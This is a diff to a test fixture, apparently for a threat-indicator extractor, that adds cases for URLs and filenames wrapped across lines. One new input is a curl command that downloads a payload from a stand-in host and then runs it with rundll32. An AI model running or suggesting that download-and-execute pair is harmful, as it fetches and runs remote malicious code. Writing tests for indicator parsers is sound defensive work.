@@ -118,10 +118,18 @@ export const WRAPPED_URLS: Table = {
       'url http://203.0.113.78/',
     ],
   ],
-  'the ending of a page alone in the next line': [
+  'endings of pages alone in the next line': [
     ['- evil.com/a/set_up.\nphp\n- bad.com/b', 'url evil.com/a/set_up.php', 'url bad.com/b'],
     ['hxxp://evil[.]com/x.old/tool.\nexe', 'url http://evil.com/x.old/tool.exe'],
     ['It serves evil.com/a/b.\nphp is what it is written in', 'url evil.com/a/b'],
     ['files of evil.com.\nzip\n', 'domain evil.com'],
+  ],
+  'URLs before a command on the next line': [
+    [
+      'curl -output 77.png --url hxxps://files.evil.example/4fKq0ZbL/stage/310199.gif\nrundll32.exe 77.png,Run',
+      'filename 77.png',
+      'url https://files.evil.example/4fKq0ZbL/stage/310199.gif',
+      'filename rundll32.exe',
+    ],
   ],
 };
